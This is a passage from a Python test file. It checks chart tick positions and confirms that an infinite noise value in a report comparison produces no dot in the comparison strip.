    assert (ticks[0].position, ticks[-1].position) == ("0.00%", "100.00%")
    assert 2 <= len(ticks) <= 8


def test_infinite_noise_has_no_dot(report):
    report["comparison"].update(noise_loose="inf")
    strip = charts.comparison_strip(report)
    assert [len(row.dots) for row in strip.dots] == [len(report["queries"]), 1, 0]
